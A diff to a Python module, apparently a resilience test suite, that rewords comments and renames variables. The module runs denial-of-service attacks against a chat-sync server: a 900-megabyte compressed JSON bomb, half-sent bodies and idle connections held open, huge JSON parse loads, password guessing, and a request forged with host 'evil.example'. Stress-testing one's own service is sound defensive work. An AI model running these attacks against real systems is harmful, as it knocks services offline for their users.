@@ -1,7 +1,8 @@
-"""Attacks: each is run again and again, on several connections, until its time is over."""
+"""Attacks, each repeated on several connections until its time is over."""
 
 from __future__ import annotations
 
+import itertools
 import json
 import socket
 import zlib
@@ -10,33 +11,32 @@ from contextlib import ExitStack, suppress
 from dataclasses import dataclass
 from functools import cache
 from hashlib import sha256
-from itertools import count
 from threading import Event, Thread
 from uuid import uuid4
 
 from .target import DEVICE, Account, Target, request
 
 MEGABYTE = 1 << 20
-_numbers = count(1)
+_numbers = itertools.count(1)
 
 
 @dataclass(frozen=True)
 class Attack:
-    """One attack; ``run`` is called with whom it is done as, until ``ended`` is set."""
+    """One attack; ``run`` is called again and again until ``ended`` is set."""
 
     name: str
     run: Callable[[Target, Account, Event], None]
     connections: int = 5
 
     def begin(self, target: Target, account: Account, ended: Event) -> list[Thread]:
-        """Begin it on all connections."""
+        """Start the attack on all its connections."""
 
-        def again() -> None:
+        def repeat() -> None:
             while not ended.is_set():
                 with suppress(OSError):
                     self.run(target, account, ended)
 
-        threads = [Thread(target=again, daemon=True) for _ in range(self.connections)]
+        threads = [Thread(target=repeat, daemon=True) for _ in range(self.connections)]
         for thread in threads:
             thread.start()
         return threads
@@ -49,7 +49,7 @@ def _address() -> Mapping[str, str]:
 
 @cache
 def bomb() -> bytes:
-    """Return JSON of 900 megabytes in one."""
+    """Return 900 megabytes of JSON, compressed to one."""
     packer = zlib.compressobj(9)
     blank = b" " * MEGABYTE
     pieces = [packer.compress(b"["), *(packer.compress(blank) for _ in range(900)), packer.compress(b"]")]
@@ -57,35 +57,35 @@ def bomb() -> bytes:
 
 
 def stored_bomb(target: Target, account: Account, ended: Event) -> None:
-    """Have an answer stored that inflates a thousandfold, and push again what it answers."""
+    """Store a response that inflates a thousandfold, and repeat the push that it responds to."""
     replica = uuid4().hex
     body = json.dumps({"conversations": [], "sync": {"replica": replica, "push_seq": 1, "ops": []}}).encode()
     headers = {**account.headers, **DEVICE}
     connection = target.connect()
     request(connection, "POST", "/api/chat/sync", body, headers)
-    told = {
+    values = {
         "p_replica": replica,
         "p_push_seq": 1,
         "p_hash": sha256(body).hexdigest(),
         "p_answer": "\\x" + bomb().hex(),
     }
-    request(connection, "POST", "/rest/v1/rpc/sync_answered", told, account.headers)
+    request(connection, "POST", "/rest/v1/rpc/sync_answered", values, account.headers)
     request(connection, "POST", "/api/chat/sync", body, headers)
 
 
-def _conversations(many: int, messages: int = 0) -> list[dict[str, object]]:
-    said = [{"id": f"m{n}", "role": "user", "content": "x"} for n in range(messages)]
-    return [{"id": f"c{n}", "title": "x", "messages": said} for n in range(many)]
+def _conversations(number: int, messages: int = 0) -> list[dict[str, object]]:
+    stored = [{"id": f"m{n}", "role": "user", "content": "x"} for n in range(messages)]
+    return [{"id": f"c{n}", "title": "x", "messages": stored} for n in range(number)]
 
 
 def large_batch(target: Target, account: Account, ended: Event) -> None:
-    """Store a thousand conversations by one call."""
+    """Store a thousand conversations in one call."""
     body = {"user_uuid": account.id, "conversations_data": _conversations(1000)}
     request(target.connect(), "POST", "/rest/v1/rpc/sync_user_conversations", body, account.headers)
 
 
 def abandoned_push(target: Target, account: Account, ended: Event) -> None:
-    """Begin a push of many conversations and leave."""
+    """Start a push of many conversations and disconnect."""
     body = {"conversations": _conversations(4000)}
     with suppress(OSError):
         request(target.connect(0.3), "POST", "/api/chat/sync", body, account.headers)
@@ -95,12 +95,12 @@ LISTS = b"[" + b",".join([b"[]"] * 680_000) + b"]"
 
 
 def strangers_json(target: Target, account: Account, ended: Event) -> None:
-    """Send two megabytes of small values to be parsed."""
+    """Send two megabytes of small JSON values without a sign-in."""
     request(target.connect(), "POST", "/auth/v1/token?grant_type=password", LISTS, _address())
 
 
 def many_values(target: Target, account: Account, ended: Event) -> None:
-    """The same by somebody who signed in."""
+    """Send two megabytes of small JSON values after signing in."""
     body = b'{"conversations": [], "more": ' + LISTS + b"}"
     request(target.connect(), "POST", "/api/chat/sync", body, account.headers)
 
@@ -115,7 +115,7 @@ def guesses(target: Target, account: Account, ended: Event) -> None:
 
 
 def passwords(target: Target, account: Account, ended: Event) -> None:
-    """Guess passwords of accounts that are not there."""
+    """Guess passwords of accounts that do not exist."""
     body = {"email": f"{uuid4().hex}@example.org", "password": "a guess of mine"}
     request(target.connect(), "POST", "/auth/v1/token?grant_type=password", body, _address())
 
@@ -125,9 +125,9 @@ def _head(path: str, length: int, headers: Mapping[str, str]) -> bytes:
     return "\r\n".join([*lines, *(f"{name}: {value}" for name, value in headers.items()), "", ""]).encode()
 
 
-def _held(target: Target, ended: Event, many: int, sent: bytes) -> None:
+def _hold(target: Target, ended: Event, count: int, sent: bytes) -> None:
     with ExitStack() as stack:
-        for _ in range(many):
+        for _ in range(count):
             connection = stack.enter_context(socket.create_connection((target.host, target.port), 20))
             with suppress(OSError):
                 connection.sendall(sent)
@@ -135,29 +135,29 @@ def _held(target: Target, ended: Event, many: int, sent: bytes) -> None:
 
 
 def strangers_bodies(target: Target, account: Account, ended: Event) -> None:
-    """Send forty large bodies but for their last byte, as nobody."""
-    _held(target, ended, 40, _head("/auth/v1/token", 10 * MEGABYTE, {}) + b" " * (10 * MEGABYTE - 1))
+    """Send forty large bodies except their last byte, without a sign-in."""
+    _hold(target, ended, 40, _head("/auth/v1/token", 10 * MEGABYTE, {}) + b" " * (10 * MEGABYTE - 1))
 
 
 def half_sent_bodies(target: Target, account: Account, ended: Event) -> None:
-    """The same by somebody who signed in."""
+    """Send forty large bodies except their last byte, after signing in."""
     head = _head("/api/chat/sync", 10 * MEGABYTE, account.headers)
-    _held(target, ended, 40, head + b" " * (10 * MEGABYTE - 1))
+    _hold(target, ended, 40, head + b" " * (10 * MEGABYTE - 1))
 
 
 def silent_connections(target: Target, account: Account, ended: Event) -> None:
-    """Hold connections that say nothing."""
-    _held(target, ended, 900, b"GET / HTTP/1.1\r\n")
+    """Hold connections that send no complete request."""
+    _hold(target, ended, 900, b"GET / HTTP/1.1\r\n")
 
 
 def unread_answers(target: Target, account: Account, ended: Event) -> None:
-    """Ask for much and read nothing."""
+    """Request large responses and read none of them."""
     lines = ["GET /openapi.json HTTP/1.1", "Host: localhost", "", ""]
-    _held(target, ended, 100, "\r\n".join(lines).encode() * 100)
+    _hold(target, ended, 100, "\r\n".join(lines).encode() * 100)
 
 
 def large_pushes(target: Target, account: Account, ended: Event) -> None:
-    """Push as many ops as are taken, and pull them in pages as large as may be."""
+    """Push the largest number of ops, and pull them in the largest pages."""
     run = next(_numbers)
     value = {"role": "user", "content": "text " * 20, "timestamp": "2026-03-01T12:00:00.000Z"}
     ops: list[dict[str, object]] = [{"kind": "c", "id": f"c{run}", "op": "put", "value": {"title": "x"}}]
@@ -170,7 +170,7 @@ def large_pushes(target: Target, account: Account, ended: Event) -> None:
 
 
 def foreign_name(target: Target, account: Account, ended: Event) -> None:
-    """Ask as a page of another name does, whose name resolves to this machine."""
+    """Send what a page of another name sends when its name resolves to this computer."""
     body = {"email": f"{uuid4().hex}@example.org", "password": "correct horse battery"}
     headers = {"Host": "evil.example", **_address()}
     request(target.connect(), "POST", "/auth/v1/signup", body, headers)
